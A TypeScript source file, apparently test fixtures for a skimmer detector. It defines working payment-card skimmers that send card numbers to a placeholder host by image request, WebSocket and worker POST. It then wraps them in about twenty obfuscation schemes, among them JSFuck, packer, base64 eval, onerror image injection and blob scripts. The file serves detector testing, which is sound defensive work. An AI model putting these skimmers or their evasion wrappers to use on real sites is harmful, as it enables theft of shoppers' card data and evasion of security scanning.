// One card skimmer, disguised in the ways that skimmers are.
import JScrewIt from 'jscrewit'
import { jsConfused, obfuscated, triedPresets } from '../made-obfuscated.ts'
import { aaencode, jjencode } from '../symbol-encoders.ts'
import { skimmer, skimmerHost } from './skimmer.ts'

// It is a CommonJS module with the types of another kind.
const { encode } = JScrewIt as unknown as typeof JScrewIt.default

/** On one line and short, for encoders whose output is a thousand times as long. */
const short = `document.onsubmit=function(){new Image().src="https://${skimmerHost}/?"+btoa(document.querySelector("#cardnumber").value)}`

const bySocket = `var socket = new WebSocket("wss://${skimmerHost}/s");
document.querySelector("#payment").addEventListener("input", function (event) {
  socket.send(JSON.stringify([event.target.name, event.target.value]));
});`

const percent = (text: string) =>
  [...text].map((letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const codes = (text: string) => [...text].map((letter) => letter.charCodeAt(0)).join()
const quoted = JSON.stringify

/** Every word becomes a number, as Dean Edwards's packer does it. */
function packed(code: string): string {
  const words = [...new Set(code.match(/\w+/g))]
  const text = code.replaceAll(/\w+/g, (word) => words.indexOf(word).toString(36))
  return `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){d[e(c)]=k[c]}return p.replace(/\\b\\w+\\b/g,function(w){return d[w]})}(${quoted(text)},36,${words.length},${quoted(words.join('|'))}.split('|'),0,{}))`
}

/** In pieces that only come together when it runs. */
const split = `var w = window, d = w["doc" + "ument"], q = "querySel" + "ector", h = String.fromCharCode(${codes(`https://${skimmerHost}/c`)});
d["addEvent" + "Listener"]("sub" + "mit", function () {
  var v = d[q](["#", "card", "-", "num", "ber"].join(""))["va" + "lue"];
  var i = new w["Im" + "age"]; i["s" + "rc"] = h + "?" + w["bt" + "oa"](v);
});`

type Disguise = [name: string, make: () => string | Promise<string>]

const byObfuscator = triedPresets.map((preset): Disguise => [
  `javascript-obfuscator, ${preset}`,
  () => obfuscated(`skimmer-${preset}`),
])
const confused = triedPresets
  .filter((preset) => preset !== 'rc4')
  .map((preset): Disguise => [`js-confuser, ${preset}`, () => jsConfused(skimmer, preset)])

export const disguises: Disguise[] = [
  ['plain', () => skimmer],
  ...byObfuscator,
  ...confused,
  ['JSFuck', () => encode(short, { features: 'COMPACT', runAs: 'call' })],
  ['JSFuck through eval', () => encode(short, { features: 'BROWSER', runAs: 'eval' })],
  ['aaencode', () => aaencode(short)],
  ['jjencode', () => jjencode(short)],
  ['packer', () => packed(skimmer)],
  ['eval of base64', () => `eval(atob("${btoa(skimmer)}"))`],
  ['Function of percent signs', () => `Function(unescape("${percent(skimmer)}"))()`],
  ['written HTML', () => `document.write(unescape("${percent(`<script>${skimmer}</script>`)}"))`],
  [
    'HTML written in pieces',
    () =>
      `document.write("<scr" + "ipt>"); document.write(${quoted(skimmer)}); document.write("</scr" + "ipt>")`,
  ],
  [
    'image that fails to load',
    () =>
      `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"eval(atob('${btoa(skimmer)}'))\\">")`,
  ],
  ['pasted image that fails to load', () => `<img src=x onerror="eval(atob('${btoa(skimmer)}'))">`],
  ['socket', () => bySocket],
  ['split texts and character codes', () => split],
  ['timer with text', () => `setTimeout(${quoted(skimmer)}, 2000)`],
  [
    'text of a script element',
    () =>
      `var s = document.createElement("script"); s.text = atob("${btoa(skimmer)}"); document.head.appendChild(s)`,
  ],
  [
    'blob as a script',
    () =>
      `var s = document.createElement("script"); s.src = URL.createObjectURL(new Blob([atob("${btoa(skimmer)}")])); document.head.appendChild(s)`,
  ],
  [
    'worker from a blob that sends',
    () =>
      `var w = new Worker(URL.createObjectURL(new Blob(["onmessage = function (event) { fetch('https://${skimmerHost}/w', { method: 'POST', body: event.data }) }"])));
       document.addEventListener("change", function () { w.postMessage(btoa(document.querySelector("#card-number").value)) })`,
  ],
  ['constructor of a function', () => `document.querySelector.constructor(atob("${btoa(skimmer)}"))()`],
  ['constructor of an async function', () => `(async () => {}).constructor(atob("${btoa(skimmer)}"))()`],
]

/** What cannot be judged: nothing here shows a skimmer, and nothing shows that there is none. */
export const unseen: [name: string, code: string][] = [
  ['fails before it does anything', `undefinedName.start(); fetch("/x")`],
  [
    'code from an unknown text',
    'window.addEventListener("never", function () {}); function later(text) { if (Date.now() < 0) eval(text) }',
  ],
  [
    'code from elsewhere',
    'var s = document.createElement("script"); s.src = "https://cdn.example/a.js"; document.head.appendChild(s)',
  ],
  ['an endless loop', 'for (;;) {}'],
  ['symbols that do nothing', `${'[]+!+'.repeat(100)}[]`],
  ['WebAssembly', 'WebAssembly.instantiate(new Uint8Array(8))'],
  ['an encoded text', `var data = "${btoa(codes(skimmer + bySocket))}"; window.data = data`],
  ['imported code', 'import("https://cdn.example/a.mjs")'],
]
